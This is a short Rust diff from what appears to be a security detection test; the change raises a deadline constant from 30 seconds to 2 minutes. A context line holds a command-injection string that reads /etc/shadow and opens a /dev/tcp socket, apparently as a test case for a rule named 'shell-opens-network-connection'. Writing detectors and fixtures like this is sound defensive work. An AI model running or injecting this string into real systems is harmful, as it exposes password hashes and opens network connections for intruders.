@@ -10,7 +10,7 @@ use std::time::Duration;
 
 use crate::scene::Scene;
 
-const DEADLINE: Duration = Duration::from_secs(30);
+const DEADLINE: Duration = Duration::from_mins(2);
 const ATTACK: &str = "1; bash -c 'id; cat /etc/shadow; exec 3<>/dev/tcp/127.0.0.1/9'";
 const RULE: &str = "shell-opens-network-connection";
 
